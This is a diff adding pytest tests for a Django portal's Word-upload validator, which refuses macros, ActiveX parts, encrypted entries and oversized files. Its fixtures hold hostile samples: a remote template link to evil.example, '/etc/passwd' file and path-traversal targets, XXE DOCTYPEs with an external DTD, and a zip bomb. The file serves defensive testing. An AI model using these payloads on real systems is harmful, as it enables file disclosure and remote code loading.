@@ -1,0 +1,186 @@
+"""The gate for files: what passes, and what is refused in which words (rule 25)."""
+
+import io
+import zipfile
+
+import docx
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from cica_portal import uploads
+from cica_portal.uploads import Limits
+
+MAIN = uploads.WORD_MAIN
+RELATIONSHIPS = "application/vnd.openxmlformats-package.relationships+xml"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def word_file() -> bytes:
+    document = docx.Document()
+    document.add_paragraph("Text.")
+    stream = io.BytesIO()
+    document.save(stream)
+    return stream.getvalue()
+
+
+def package(**parts: str | bytes) -> bytes:
+    """Return the smallest Word package, with parts put in or replaced."""
+    content = {
+        "[Content_Types].xml": types(),
+        "_rels/.rels": relationships(("officeDocument", "word/document.xml", "")),
+        "word/document.xml": "<document><body/></document>",
+    } | parts
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as file:
+        for name, part in content.items():
+            file.writestr(name, part)
+    return stream.getvalue()
+
+
+def types(main: str = MAIN, more: str = "") -> str:
+    return (
+        f'<Types><Default Extension="rels" ContentType="{RELATIONSHIPS}"/>'
+        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
+    )
+
+
+def relationships(*found: tuple[str, str, str]) -> str:
+    lines = "".join(
+        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"/>' if mode else "/>")
+        for number, (kind, target, mode) in enumerate(found)
+    )
+    return f"<Relationships>{lines}</Relationships>"
+
+
+def refusal(content: bytes, limits: Limits = uploads.LIMITS) -> type | None:
+    try:
+        uploads.check_word(content, limits)
+    except uploads.Refused as refused:
+        return type(refused)
+    return None
+
+
+def test_a_plain_word_document_passes():
+    content = word_file()
+
+    assert uploads.word_document(SimpleUploadedFile("any name at all.pdf", content)) == content
+
+
+def test_the_smallest_package_passes_so_that_each_refusal_below_has_one_reason():
+    assert refusal(package()) is None
+
+
+@pytest.mark.parametrize(
+    ("content", "expected"),
+    [
+        (b"", uploads.Empty),
+        (b"%PDF-1.7", uploads.NotWord),
+        (uploads.OLD_WORD_SIGNATURE + b"old", uploads.OldWord),
+        (b"PK\x03\x04 and nothing more", uploads.Damaged),
+        (word_file()[:-400], uploads.Damaged),
+    ],
+    ids=["empty", "pdf", "old", "zip in name only", "cut off"],
+)
+def test_what_is_no_word_document_is_refused(content, expected):
+    assert refusal(content) is expected
+
+
+@pytest.mark.parametrize(
+    ("parts", "expected"),
+    [
+        ({"[Content_Types].xml": types("application/vnd.oasis.opendocument.text")}, uploads.NotWord),
+        (
+            {"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")},
+            uploads.WithMacros,
+        ),
+        ({"word/vbaProject.bin": b"\xd0\xcf"}, uploads.WithMacros),
+        ({"word/activeX/activeX1.bin": b"x"}, uploads.WithMacros),
+        (
+            {"word/_rels/document.xml.rels": relationships(("vbaProject", "other.bin", ""))},
+            uploads.WithMacros,
+        ),
+        (
+            {
+                "word/_rels/settings.xml.rels": relationships(
+                    ("attachedTemplate", "https://evil.example/t.dotm", "External")
+                )
+            },
+            uploads.WithOutsideParts,
+        ),
+        (
+            {"word/_rels/document.xml.rels": relationships(("image", "file:///etc/passwd", ""))},
+            uploads.WithOutsideParts,
+        ),
+        (
+            {"word/_rels/document.xml.rels": relationships(("image", "../../../etc/passwd", ""))},
+            uploads.WithOutsideParts,
+        ),
+        ({"word/document.xml": '<!DOCTYPE d [<!ENTITY a "b">]><document/>'}, uploads.WithEntities),
+        (
+            {"word/document.xml": '<!DOCTYPE d SYSTEM "http://evil.example/x.dtd"><document/>'},
+            uploads.WithEntities,
+        ),
+        (
+            {"word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d><d/>'.encode("utf-16")},
+            uploads.WithEntities,
+        ),
+        ({"word/part.bin": b" <!DOCTYPE d><d/>"}, uploads.WithEntities),
+        ({"word/document.xml": "<document>"}, uploads.Damaged),
+        ({"word/document.xml": "<d>" * 300 + "</d>" * 300}, uploads.Damaged),
+        ({"../outside.xml": "<a/>"}, uploads.Damaged),
+        ({"WORD/DOCUMENT.XML": "<a/>"}, uploads.Damaged),
+    ],
+)
+def test_a_package_with_something_forbidden_is_refused(parts, expected):
+    assert refusal(package(**parts)) is expected
+
+
+def test_a_link_to_click_is_no_outside_part():
+    content = package(
+        **{
+            "word/_rels/document.xml.rels": relationships(
+                ("hyperlink", "https://www.example.org/", "External"),
+                ("styles", "styles.xml", ""),
+                ("customXml", "../customXml/item1.xml", ""),
+            )
+        }
+    )
+
+    assert refusal(content) is None
+
+
+def test_the_limits_are_of_what_is_really_unpacked():
+    bomb = package(**{"word/media/zeros.bin": b"\0" * 3_000_000})
+
+    assert len(bomb) < 20_000
+    assert refusal(bomb, Limits(unpacked=1_000_000)) is uploads.UnpacksTooLarge
+    assert refusal(package(), Limits(entries=2)) is uploads.TooManyParts
+    assert refusal(package(), Limits(size=100)) is uploads.TooLarge
+    assert (
+        refusal(package(**{"word/big.xml": f"<a>{'x' * 2000}</a>"}), Limits(xml=1000))
+        is uploads.UnpacksTooLarge
+    )
+
+
+def test_an_encrypted_part_is_refused():
+    content = bytearray(package())
+    content[6] |= 1
+    directory = content.rindex(b"PK\x01\x02")
+    first = content.index(b"PK\x01\x02")
+    for place in {first, directory}:
+        content[place + 8] |= 1
+
+    assert refusal(bytes(content)) is uploads.OldWord
+
+
+def test_a_stored_file_has_a_random_name_and_goes_for_good():
+    name = uploads.store(b"content", ".docx")
+    other = uploads.store(b"content", ".docx")
+
+    assert name != other
+    assert uploads.stored(name) == b"content"
+    uploads.drop(name)
+    uploads.drop(name)
+    with pytest.raises(FileNotFoundError):
+        uploads.stored(name)
